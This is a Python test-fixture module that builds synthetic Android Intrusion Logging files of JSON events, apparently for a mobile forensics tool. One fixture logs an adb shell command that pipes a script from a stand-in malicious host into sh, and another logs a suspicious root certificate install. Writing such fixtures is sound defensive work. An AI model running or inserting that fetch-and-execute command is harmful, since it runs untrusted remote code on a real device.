"""Android Intrusion Logging downloads: date-named .txt files of newline-delimited JSON, one
event per line, in the shapes reported from real Pixel logs (mvt-project/mvt#813, #831)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.builders.archives import write_folder, write_zip

DNS = {"dns_event": {"event_id": 16372, "event_time": 1781042586821, "package_name": "org.thoughtcrime.securesms",
                     "hostname": "cdn3.signal.org",
                     "ip_addresses": ["/2606:4700::6812:a2f", "/104.18.11.47"], "ip_addresses_count": 2}}
CONNECT = {"connect_event": {"event_id": 16373, "event_time": 1781042586823,
                             "package_name": "org.thoughtcrime.securesms", "port": 443,
                             "ip_address": "/2606:4700::6812:a2f"}}
PROCESS_START = {"security_event": {"event_id": 0, "event_time": 1780955514182275747,
                                    "app_process_start": {"process": "com.example.app:remote", "uid": 10123,
                                                          "pid": 12345, "seinfo": "default:targetSdkVersion=36",
                                                          "sha256": "ab" * 32}}}
ADB_PULL = {"security_event": {"event_id": 39, "event_time": 1780956107814516929,
                               "adb_sync_recv_file": {"path": "sdcard/Download/Intrusion Logging/x.zip"}}}
ADB_SHELL = {"security_event": {"event_id": 40, "event_time": 1780956107914516929,
                                "adb_shell_cmd": {"command": "curl http://evil-domain.com/p.sh | sh"}}}
CA_INSTALLED = {"security_event": {"event_id": 41, "event_time": 1780956108014516929,
                                   "cert_authority_installed": {"subject": "CN=Totally Legit Root", "success": True,
                                                                "user_id": 0}}}
KEYGUARD = {"security_event": {"event_id": 192, "event_time": 1781041621671531910, "keyguard_dismissed": {}}}
FUTURE = {"security_event": {"event_id": 193, "event_time": 1781041621671531999, "future_google_event": {"x": 1}}}


def ndjson(events: list[Any]) -> bytes:
    return b"".join(json.dumps(e).encode() + b"\n" for e in events)


DAY = ndjson([DNS, CONNECT, PROCESS_START, ADB_PULL, ADB_SHELL, CA_INSTALLED, KEYGUARD, FUTURE])


def logs_folder(parent: Path, files: dict[str, bytes] | None = None) -> Path:
    return write_folder(parent / "Pixel 10 Pro_20260608", files or {"2026-06-08.txt": DAY})


def logs_zip(parent: Path, files: dict[str, bytes] | None = None) -> Path:
    return write_zip(parent / "Pixel 10 Pro_20260608.zip", files or {"2026-06-08.txt": DAY})
